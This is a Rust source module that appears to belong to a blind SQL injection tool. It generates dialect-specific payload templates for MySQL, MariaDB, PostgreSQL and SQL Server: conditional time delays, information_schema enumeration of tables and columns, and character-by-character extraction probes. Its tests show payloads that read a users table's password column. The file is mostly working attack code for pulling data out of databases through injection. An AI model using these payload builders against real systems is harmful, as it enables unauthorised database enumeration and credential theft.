//! Backend dialects and their payload templates.
//!
//! A dialect only encodes syntax: how to sleep conditionally, how to pick one
//! row at an offset and where the schema catalog lives. The enum is closed, so
//! every registered dialect provides every template family; anything that is
//! not registered is refused by [`Dialect::from_name`] before a probe is sent.

use crate::error::{BlindError, Result};
use serde::Serialize;
use std::fmt;
use std::str::FromStr;
use std::time::Duration;

/// Registered backend dialects.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum Dialect {
    MySql,
    MariaDb,
    PostgreSql,
    MsSql,
}

impl fmt::Display for Dialect {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Dialect::MySql => write!(f, "MySQL"),
            Dialect::MariaDb => write!(f, "MariaDB"),
            Dialect::PostgreSql => write!(f, "PostgreSQL"),
            Dialect::MsSql => write!(f, "Microsoft SQL Server"),
        }
    }
}

impl FromStr for Dialect {
    type Err = BlindError;

    fn from_str(s: &str) -> Result<Self> {
        Self::from_name(s)
    }
}

/// What a `COUNT(*)` probe is scoped to.
#[derive(Debug, Clone, Copy)]
pub enum CountScope<'a> {
    /// Tables of a schema (catalog on MSSQL).
    Tables { schema: &'a str },
    /// Columns of a table.
    Columns { table: &'a str, schema: &'a str },
    /// Rows of a table, optionally schema-qualified.
    Rows {
        table: &'a str,
        schema: Option<&'a str>,
    },
}

/// A single-column query from which one row is selected by offset.
///
/// `order_by` must be a stable key: independent probes for offset `n` have to
/// land on the same row.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RowQuery {
    pub select: String,
    pub from: String,
    pub filter: Option<String>,
    pub order_by: Vec<String>,
}

impl RowQuery {
    pub fn new(select: impl Into<String>, from: impl Into<String>) -> Self {
        let select = select.into();
        Self {
            order_by: vec![select.clone()],
            select,
            from: from.into(),
            filter: None,
        }
    }

    pub fn filter(mut self, clause: impl Into<String>) -> Self {
        self.filter = Some(clause.into());
        self
    }

    pub fn order_by<I, S>(mut self, keys: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.order_by = keys.into_iter().map(Into::into).collect();
        self
    }

    fn base(&self) -> String {
        let mut sql = format!("SELECT {} FROM {}", self.select, self.from);
        if let Some(filter) = &self.filter {
            sql.push_str(" WHERE ");
            sql.push_str(filter);
        }
        sql
    }
}

impl Dialect {
    pub const ALL: [Dialect; 4] = [
        Dialect::MySql,
        Dialect::MariaDb,
        Dialect::PostgreSql,
        Dialect::MsSql,
    ];

    /// Looks a dialect up in the registry by (case-insensitive) name.
    pub fn from_name(name: &str) -> Result<Self> {
        match name.trim().to_ascii_lowercase().as_str() {
            "mysql" => Ok(Dialect::MySql),
            "mariadb" => Ok(Dialect::MariaDb),
            "postgres" | "postgresql" | "pg" => Ok(Dialect::PostgreSql),
            "mssql" | "sqlserver" | "sql server" => Ok(Dialect::MsSql),
            _ => Err(BlindError::UnsupportedDialect(name.to_string())),
        }
    }

    /// Wraps `condition` in a statement that sleeps for `delay` only when the
    /// condition holds.
    pub fn build_delay_condition(&self, condition: &str, delay: Duration) -> String {
        match self {
            Dialect::MySql | Dialect::MariaDb => {
                format!("IF(({}),SLEEP({}),0)", condition, seconds(delay))
            }
            Dialect::PostgreSql => format!(
                "CASE WHEN ({}) THEN pg_sleep({}) ELSE pg_sleep(0) END",
                condition,
                seconds(delay)
            ),
            // Stacked statement; the injection prefix has to close the
            // previous one.
            Dialect::MsSql => format!("IF({}) WAITFOR DELAY '{}'", condition, waitfor(delay)),
        }
    }

    /// Selects the row at `offset` of `query`.
    pub fn select_row(&self, query: &RowQuery, offset: usize) -> String {
        let order = query.order_by.join(",");
        match self {
            Dialect::MySql | Dialect::MariaDb => {
                format!("{} ORDER BY {} LIMIT {},1", query.base(), order, offset)
            }
            Dialect::PostgreSql => {
                format!("{} ORDER BY {} LIMIT 1 OFFSET {}", query.base(), order, offset)
            }
            Dialect::MsSql => format!(
                "{} ORDER BY {} OFFSET {} ROWS FETCH NEXT 1 ROWS ONLY",
                query.base(),
                order,
                offset
            ),
        }
    }

    /// "One row at offset" fragment projecting `columns[0]` from `table`,
    /// ordered by all of `columns`.
    pub fn build_row_selector(&self, table: &str, columns: &[&str], offset: usize) -> String {
        let select = columns.first().copied().unwrap_or("*");
        let query = RowQuery::new(select, table).order_by(columns.iter().copied());
        self.select_row(&query, offset)
    }

    /// `SELECT COUNT(*)` fragment for the given scope.
    pub fn build_count_query(&self, scope: CountScope<'_>) -> String {
        match scope {
            CountScope::Tables { schema } => format!(
                "SELECT COUNT(*) FROM information_schema.tables WHERE {}",
                self.schema_predicate(schema)
            ),
            CountScope::Columns { table, schema } => format!(
                "SELECT COUNT(*) FROM information_schema.columns WHERE table_name={} AND {}",
                quote_literal(table),
                self.schema_predicate(schema)
            ),
            CountScope::Rows { table, schema } => {
                format!("SELECT COUNT(*) FROM {}", self.qualified_table(table, schema))
            }
        }
    }

    /// Row query listing table names of `schema`.
    pub fn table_names(&self, schema: &str) -> RowQuery {
        RowQuery::new("table_name", "information_schema.tables")
            .filter(self.schema_predicate(schema))
    }

    /// Row query listing column names of `table`, in declaration order.
    pub fn column_names(&self, table: &str, schema: &str) -> RowQuery {
        RowQuery::new("column_name", "information_schema.columns")
            .filter(format!(
                "table_name={} AND {}",
                quote_literal(table),
                self.schema_predicate(schema)
            ))
            .order_by(["ordinal_position"])
    }

    /// Row query reading `column` of `table`, ordered by every column so the
    /// same offset addresses the same row for each cell.
    pub fn cell(&self, table: &str, schema: Option<&str>, column: &str, order_by: &[String]) -> RowQuery {
        let query = RowQuery::new(column, self.qualified_table(table, schema));
        if order_by.is_empty() {
            query
        } else {
            query.order_by(order_by.iter().cloned())
        }
    }

    /// Predicate restricting `information_schema` to one schema.
    pub fn schema_predicate(&self, schema: &str) -> String {
        match self {
            Dialect::MySql | Dialect::MariaDb | Dialect::PostgreSql => {
                format!("table_schema={}", quote_literal(schema))
            }
            Dialect::MsSql => format!("table_catalog={}", quote_literal(schema)),
        }
    }

    pub fn qualified_table(&self, table: &str, schema: Option<&str>) -> String {
        match (self, schema) {
            (_, None) => table.to_string(),
            (Dialect::MsSql, Some(catalog)) => format!("{}.dbo.{}", catalog, table),
            (_, Some(schema)) => format!("{}.{}", schema, table),
        }
    }

    /// Character length of `expr`, trailing spaces included. SQL Server's
    /// `LEN` ignores them, so a sentinel character is appended and
    /// subtracted again; NULL stays NULL.
    pub fn length_of(&self, expr: &str) -> String {
        match self {
            Dialect::MsSql => format!("LEN(({})+'x')-1", expr),
            _ => format!("LENGTH(({}))", expr),
        }
    }

    /// Expression naming the schema that `information_schema` filters on.
    pub fn current_schema(&self) -> &'static str {
        match self {
            Dialect::MySql | Dialect::MariaDb => "DATABASE()",
            Dialect::PostgreSql => "current_schema()",
            Dialect::MsSql => "DB_NAME()",
        }
    }

    pub fn version(&self) -> &'static str {
        match self {
            Dialect::MySql | Dialect::MariaDb => "VERSION()",
            Dialect::PostgreSql => "version()",
            Dialect::MsSql => "@@VERSION",
        }
    }

    /// `LENGTH(expr)<=n`
    pub fn length_at_most(&self, expr: &str, n: usize) -> String {
        format!("{}<={}", self.length_of(expr), n)
    }

    /// Ordinal of the character at 1-based `pos`.
    pub fn char_code(&self, expr: &str, pos: usize) -> String {
        format!("ASCII(SUBSTRING(({}),{},1))", expr, pos)
    }

    /// `ASCII(SUBSTRING(expr,pos,1)) <op> value`
    pub fn char_compare(&self, expr: &str, pos: usize, op: &str, value: u32) -> String {
        format!("{}{}{}", self.char_code(expr, pos), op, value)
    }

    /// `(expr & mask) > 0`
    pub fn bit_set(&self, expr: &str, mask: u64) -> String {
        format!("(({})&{})>0", expr, mask)
    }

    /// `expr >= bound`
    pub fn at_least(&self, expr: &str, bound: u64) -> String {
        format!("({})>={}", expr, bound)
    }
}

/// Single-quoted SQL literal with embedded quotes doubled.
pub fn quote_literal(value: &str) -> String {
    format!("'{}'", value.replace('\'', "''"))
}

fn seconds(delay: Duration) -> String {
    if delay.subsec_millis() == 0 {
        delay.as_secs().to_string()
    } else {
        format!("{}.{:03}", delay.as_secs(), delay.subsec_millis())
    }
}

fn waitfor(delay: Duration) -> String {
    let total = delay.as_secs();
    let base = format!("{:02}:{:02}:{:02}", total / 3600, (total / 60) % 60, total % 60);
    if delay.subsec_millis() == 0 {
        base
    } else {
        format!("{}.{:03}", base, delay.subsec_millis())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_registry_aliases() {
        assert_eq!(Dialect::from_name("MySQL").unwrap(), Dialect::MySql);
        assert_eq!(Dialect::from_name("pg").unwrap(), Dialect::PostgreSql);
        assert_eq!(" sqlserver ".parse::<Dialect>().unwrap(), Dialect::MsSql);
        match Dialect::from_name("Oracle11g") {
            Err(BlindError::UnsupportedDialect(name)) => assert_eq!(name, "Oracle11g"),
            other => panic!("unexpected: {:?}", other),
        }
    }

    #[test]
    fn test_delay_templates() {
        let delay = Duration::from_secs(3);
        assert_eq!(
            Dialect::MySql.build_delay_condition("1=1", delay),
            "IF((1=1),SLEEP(3),0)"
        );
        assert_eq!(
            Dialect::PostgreSql.build_delay_condition("1=1", delay),
            "CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END"
        );
        assert_eq!(
            Dialect::MsSql.build_delay_condition("1=1", Duration::from_secs(3725)),
            "IF(1=1) WAITFOR DELAY '01:02:05'"
        );
        assert_eq!(
            Dialect::MariaDb.build_delay_condition("x", Duration::from_millis(1500)),
            "IF((x),SLEEP(1.500),0)"
        );
    }

    #[test]
    fn test_row_selectors() {
        assert_eq!(
            Dialect::MySql.build_row_selector("users", &["password", "id"], 4),
            "SELECT password FROM users ORDER BY password,id LIMIT 4,1"
        );
        assert_eq!(
            Dialect::PostgreSql.build_row_selector("users", &["password"], 0),
            "SELECT password FROM users ORDER BY password LIMIT 1 OFFSET 0"
        );
        assert_eq!(
            Dialect::MsSql.build_row_selector("users", &["password"], 2),
            "SELECT password FROM users ORDER BY password OFFSET 2 ROWS FETCH NEXT 1 ROWS ONLY"
        );
    }

    #[test]
    fn test_schema_scoping() {
        assert_eq!(
            Dialect::MySql.build_count_query(CountScope::Tables { schema: "shop" }),
            "SELECT COUNT(*) FROM information_schema.tables WHERE table_schema='shop'"
        );
        assert_eq!(
            Dialect::MsSql.build_count_query(CountScope::Columns {
                table: "users",
                schema: "shop"
            }),
            "SELECT COUNT(*) FROM information_schema.columns WHERE table_name='users' AND table_catalog='shop'"
        );
        assert_eq!(
            Dialect::MsSql.build_count_query(CountScope::Rows {
                table: "users",
                schema: Some("shop")
            }),
            "SELECT COUNT(*) FROM shop.dbo.users"
        );
        let listing = Dialect::PostgreSql.column_names("users", "public");
        assert_eq!(
            Dialect::PostgreSql.select_row(&listing, 1),
            "SELECT column_name FROM information_schema.columns WHERE table_name='users' AND table_schema='public' ORDER BY ordinal_position LIMIT 1 OFFSET 1"
        );
    }

    #[test]
    fn test_literals_are_escaped() {
        assert_eq!(quote_literal("o'brien"), "'o''brien'");
        assert!(Dialect::MySql
            .table_names("x' OR '1'='1")
            .filter
            .unwrap()
            .ends_with("'x'' OR ''1''=''1'"));
    }

    #[test]
    fn test_probe_fragments() {
        let d = Dialect::MsSql;
        assert_eq!(d.length_at_most("DB_NAME()", 8), "LEN((DB_NAME())+'x')-1<=8");
        assert_eq!(d.char_compare("DB_NAME()", 1, ">", 79), "ASCII(SUBSTRING((DB_NAME()),1,1))>79");
        assert_eq!(d.bit_set("SELECT COUNT(*) FROM t", 8), "((SELECT COUNT(*) FROM t)&8)>0");
    }

    #[test]
    fn test_length_counts_trailing_spaces() {
        assert_eq!(Dialect::MySql.length_of("@v"), "LENGTH((@v))");
        assert_eq!(Dialect::PostgreSql.length_of("user"), "LENGTH((user))");
        // LEN('ab  ') is 2 on SQL Server; LEN('ab  x')-1 is 4.
        assert_eq!(Dialect::MsSql.length_of("@v"), "LEN((@v)+'x')-1");
    }
}
